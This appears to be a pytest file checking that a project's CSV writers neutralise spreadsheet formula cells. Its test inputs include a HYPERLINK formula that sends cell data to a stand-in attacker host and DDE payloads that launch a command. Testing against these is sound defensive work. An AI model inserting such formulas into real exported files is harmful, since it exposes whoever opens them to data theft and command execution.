"""CSV injection: every CSV writer neutralises formula cells and leaves numbers alone."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from topics.csvsafe import FORMULA_STARTS, neutralise, neutralise_frame

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("cell", [
    HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=", "-", "-x",
])
def test_a_formula_cell_gets_a_quote_in_front(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", [
    "-12.5", "+3", "-1e-3", "0", ".5", "m-001", "merchant=1", "'=already", "", "GB",
])
def test_numbers_and_harmless_text_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


def test_non_text_values_pass_through() -> None:
    for value in (-3, -2.5, None, True, np.float32(-1.0)):
        assert neutralise(value) is value


def test_every_formula_start_is_covered() -> None:
    for start in FORMULA_STARTS:
        assert str(neutralise(start + "A1")).startswith("'")


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as fh:
        return list(csv.DictReader(fh))


def test_a_frame_keeps_its_numeric_columns_and_neutralises_text() -> None:
    df = pd.DataFrame({"merchant_id": [HOSTILE, "m-1"], "amount": [-5.0, 12.0],
                       "note": pd.array(["@x", None], dtype="string")})
    out = neutralise_frame(df)
    assert out["merchant_id"].tolist() == ["'" + HOSTILE, "m-1"]
    assert out["amount"].tolist() == [-5.0, 12.0] and out["amount"].dtype == df["amount"].dtype
    assert out["note"].iloc[0] == "'@x" and pd.isna(out["note"].iloc[1])
    assert df["merchant_id"].iloc[0] == HOSTILE  # the caller's frame is not changed


def test_history_csv_is_neutralised(tmp_path: Path) -> None:
    from training.history import write_history

    df = pd.DataFrame({"transaction_id": ["t1", "t2"], "merchant_id": [HOSTILE, "m2"],
                       "amount": [-1.5, 3.0]})
    write_history(df, tmp_path / "h.csv")
    rows = _cells(tmp_path / "h.csv")
    assert rows[0]["merchant_id"] == "'" + HOSTILE and rows[1]["merchant_id"] == "m2"
    assert [r["amount"] for r in rows] == ["-1.5", "3.0"]
    write_history(df, tmp_path / "h.parquet")  # Parquet keeps the exact text
    assert pd.read_parquet(tmp_path / "h.parquet")["merchant_id"].iloc[0] == HOSTILE


def test_score_file_csv_is_neutralised(tmp_path: Path) -> None:
    from training.score_file import write_verdicts

    columns = {
        "transaction_id": np.array(["+t1", "t2"], dtype=object),
        "score": np.array([0.5, 0.01], dtype=np.float32),
        "decision": np.array(["review", "approve"], dtype=object),
        "reasons": [[{"feature": "amount", "text": "=1+1"}], []],
        "reason_features": ["amount", ""],
    }
    write_verdicts(columns, tmp_path / "v.csv")
    rows = _cells(tmp_path / "v.csv")
    assert rows[0]["transaction_id"] == "'+t1" and rows[1]["transaction_id"] == "t2"
    assert float(rows[0]["score"]) == pytest.approx(0.5)
    assert rows[0]["reasons"].startswith("[")  # JSON text: not a formula, unchanged


def test_backtest_rules_csv_is_neutralised(tmp_path: Path) -> None:
    from rules.backtest import Backtest, RuleFigures, write_report

    figures = RuleFigures(rule_id="=cmd|' /C calc'!A0", action="decline", mode="live", hits=3,
                          fraud_hits=1, precision=0.33, recall=0.5, fraud_amount=-0.0,
                          false_positives_per_day=2.0, model_overlap=None, fraud_added=1,
                          errors=0)
    result = Backtest(rows=10, frauds=2, days=1.0, rules=[figures], policies=[],
                      daily_hits={figures.rule_id: np.array([3])}, ruleset_version="v",
                      refused=[])
    write_report(result, tmp_path, "t")
    (row,) = _cells(tmp_path / "rules.csv")
    assert row["rule_id"] == "'=cmd|' /C calc'!A0"
    assert row["hits"] == "3" and row["fraud_amount"] == "-0.0"
